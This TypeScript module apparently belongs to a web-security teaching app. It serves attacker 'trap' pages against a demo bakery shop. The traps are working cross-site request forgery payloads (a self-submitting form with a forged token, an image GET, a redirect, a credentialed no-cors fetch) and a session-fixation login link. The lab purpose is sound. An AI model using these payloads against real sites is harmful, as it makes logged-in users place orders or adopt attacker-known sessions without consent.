import * as m from '../../messages/compiled/messages.js';
import { html, Html } from '../html.ts';
import type { Language } from '../language.ts';
import { trapPage } from './evil-page.ts';

/** Where the bakery's form leads that all traps are after: an order of what is in the cart. */
const order = 'https://shop.example/orders';
/** A shop that changes something for a GET does it for a picture as well. */
const orderByGet = 'https://shop.example/cart/order';
const formMediaType = 'application/x-www-form-urlencoded';

/** Pages that act by themselves as soon as somebody opens them, by path. */
export const traps: ReadonlyMap<string, (locale: Language, url: URL) => Html> = new Map([
  ['/form', (locale, url) => trapPage(locale, formThatSendsItself(url))],
  ['/picture', (locale) => trapPage(locale, html`<img src="${orderByGet}" alt="" />`)],
  ['/lead', (locale) => trapPage(locale, script(`location.href = ${asScript(orderByGet)};`))],
  ['/fetch', (locale, url) => trapPage(locale, fetchThatOrders(url))],
  ['/link', (locale, url) => trapPage(locale, linkWithIdentifier(locale, url))],
]);

/** A form of the bakery's with a token that the attacker has made up, or none; nobody has to click. */
function formThatSendsItself(url: URL): Html {
  const token = url.searchParams.get('token');
  return html`<form id="trap" method="post" action="${order}">
      ${token !== null && html`<input type="hidden" name="csrf_token" value="${token}" />`}
    </form>
    ${script("document.getElementById('trap').submit();")}`;
}

/** The browser sends the cookies along; the answer it keeps to itself, but what was asked for is done. */
function fetchThatOrders(url: URL): Html {
  const token = url.searchParams.get('token');
  const body = token === null ? '' : new URLSearchParams({ csrf_token: token }).toString();
  const init = {
    method: 'POST',
    mode: 'no-cors',
    credentials: 'include',
    headers: { 'Content-Type': formMediaType },
    body,
  };
  return script(`fetch(${asScript(order)}, ${asScript(init)}).finally(() => console.log('done'));`);
}

/** A link into the bakery, with an identifier that the attacker knows already. */
function linkWithIdentifier(locale: Language, url: URL): Html {
  const target = new URL('https://shop.example/login');
  target.searchParams.set('sid', url.searchParams.get('sid') ?? '');
  return html`<p class="evil-text">
    <a class="evil-link" id="trap" href="${target.href}">${m.shop_evil_link({}, { locale })}</a>
  </p>`;
}

function script(text: string): Html {
  return new Html(`<script>${text}</script>`);
}

/** As a literal of JavaScript that may stand within a script element: nothing in it can end the element. */
function asScript(value: unknown): string {
  return JSON.stringify(value).replaceAll('<', '\\u003c');
}
